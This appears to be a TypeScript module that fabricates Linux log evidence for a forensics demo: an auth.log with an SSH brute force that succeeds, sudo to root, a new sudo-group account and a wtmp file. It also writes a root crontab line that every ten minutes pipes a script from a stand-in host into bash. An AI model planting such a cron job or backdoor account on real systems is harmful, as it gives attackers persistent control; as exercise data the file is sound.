/** The demo's Linux server logs: an SSH brute force that succeeds, then sudo, a new account and a cron job. */
import { mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { syslogStamp } from './log-formats.ts';
import { at, HOSTS, rng, SSH_ATTACKER } from './story.ts';

/** A login of auth.log, for wtmp (successes). */
interface Login {
  us: number;
  user: string;
  from: string;
  pid: number;
  ok: boolean;
}

export function authLog(logins: Login[] = []): string[] {
  const r = rng(11);
  const host = HOSTS.web.short;
  const lines: Array<[number, string]> = [];
  const add = (us: number, msg: string): void => void lines.push([us, `${syslogStamp(us / 1000)} ${host} ${msg}`]);
  // routine: the admin logs in with a key, morning, noon and evening
  for (const [time, pid] of [
    ['11:02:40', 20518],
    ['16:20:15', 24077],
  ] as const) {
    add(
      at(time),
      `sshd[${pid}]: Accepted publickey for ops from 10.10.1.40 port ${50000 + pid} ssh2: ED25519 SHA256:q7x0demoFingerprintxxxxxxxxxxxxxxxxxxxxxx`,
    );
    logins.push({ us: at(time), user: 'ops', from: '10.10.1.40', pid, ok: true });
  }
  logins.push({ us: at('08:15:02'), user: 'ops', from: '10.10.1.40', pid: 20112, ok: true });
  // routine: the admin logs in with a key in the morning
  add(
    at('08:15:02'),
    'sshd[20112]: Accepted publickey for ops from 10.10.1.40 port 53322 ssh2: ED25519 SHA256:q7x0demoFingerprintxxxxxxxxxxxxxxxxxxxxxx',
  );
  add(at('08:15:02', 40), 'sshd[20112]: pam_unix(sshd:session): session opened for user ops(uid=1001) by (uid=0)');
  // the brute force from the internet
  const names = ['root', 'admin', 'test', 'oracle', 'ubuntu', 'deploy', 'git', 'postgres', 'user', 'ftp'];
  let t = at('13:02:10');
  let pid = 31000;
  for (let i = 0; i < 64; i++) {
    t += 700_000 + Math.floor(r() * 1_600_000);
    const u = names[i % names.length]!;
    const port = 40000 + Math.floor(r() * 20000);
    pid++;
    if (u === 'root' || u === 'deploy' || u === 'ubuntu') {
      add(t, `sshd[${pid}]: Failed password for ${u} from ${SSH_ATTACKER} port ${port} ssh2`);
      logins.push({ us: t, user: u, from: SSH_ATTACKER, pid, ok: false });
    } else {
      add(t, `sshd[${pid}]: Invalid user ${u} from ${SSH_ATTACKER} port ${port}`);
      add(t + 300_000, `sshd[${pid}]: Failed password for invalid user ${u} from ${SSH_ATTACKER} port ${port} ssh2`);
      logins.push({ us: t + 300_000, user: u, from: SSH_ATTACKER, pid, ok: false });
    }
  }
  t += 2_000_000;
  add(t, `sshd[${++pid}]: Accepted password for deploy from ${SSH_ATTACKER} port 51877 ssh2`);
  logins.push({ us: t, user: 'deploy', from: SSH_ATTACKER, pid, ok: true });
  add(t + 50_000, `sshd[${pid}]: pam_unix(sshd:session): session opened for user deploy(uid=1002) by (uid=0)`);
  add(t + 95_000_000, 'sudo:   deploy : TTY=pts/1 ; PWD=/home/deploy ; USER=root ; COMMAND=/usr/bin/bash');
  add(t + 95_000_100, 'sudo: pam_unix(sudo:session): session opened for user root(uid=0) by deploy(uid=1002)');
  add(t + 140_000_000, 'useradd[31822]: new group: name=sysupd, GID=1003');
  add(
    t + 140_000_100,
    'useradd[31822]: new user: name=sysupd, UID=1003, GID=1003, home=/home/sysupd, shell=/bin/bash, from=/dev/pts/1',
  );
  add(t + 150_000_000, "usermod[31830]: add 'sysupd' to group 'sudo'");
  add(t + 210_000_000, 'crontab[31877]: (root) REPLACE (root)');
  return lines.sort((a, b) => a[0] - b[0]).map(([, l]) => l);
}

/** One glibc utmp record (x86-64 layout, 384 bytes): type, pid, line, id, user, host, time, IPv4 address. */
function utmpRecord(type: number, pid: number, line: string, user: string, host: string, us: number): Buffer {
  const b = Buffer.alloc(384);
  b.writeInt16LE(type, 0);
  b.writeInt32LE(pid, 4);
  b.write(line, 8, 32, 'latin1');
  b.write(line.replace(/^pts\//, 'ts/'), 40, 4, 'latin1');
  b.write(user, 44, 32, 'latin1');
  b.write(host, 76, 256, 'latin1');
  b.writeInt32LE(Math.floor(us / 1e6), 340);
  b.writeInt32LE(us % 1e6, 344);
  host.split('.').forEach((o, i) => {
    if (/^\d+$/.test(o) && i < 4) b[348 + i] = Number(o);
  });
  return b;
}

/**
 * Writes web01's auth.log, wtmp (its logins as the login records keep them: their absolute times date the
 * year-less log and show its zone) and root crontab; the text files carry the demo day's time.
 */
export function writeLinuxEvidence(dir: string): string[] {
  const d = join(dir, HOSTS.web.short);
  mkdirSync(d, { recursive: true });
  const auth = join(d, 'auth.log');
  const logins: Login[] = [];
  writeFileSync(auth, `${authLog(logins).join('\n')}\n`);
  const wtmp = join(d, 'wtmp');
  const BOOT = 2;
  const USER = 7;
  writeFileSync(
    wtmp,
    Buffer.concat([
      utmpRecord(BOOT, 0, '~', 'reboot', '6.1.0-26-amd64', at('06:02:11')),
      ...logins
        .filter((l) => l.ok)
        .sort((a, b) => a.us - b.us)
        .map((l, i) => utmpRecord(USER, l.pid, `pts/${i}`, l.user, l.from, l.us)),
    ]),
  );
  const cron = join(d, 'crontab-root');
  writeFileSync(
    cron,
    '# m h dom mon dow command\n*/10 * * * * curl -fsS http://203.0.113.45/u.sh | bash >/dev/null 2>&1\n',
  );
  const t = at('23:59:00') / 1e6;
  for (const f of [auth, cron]) utimesSync(f, t, t);
  return [auth, wtmp, cron];
}
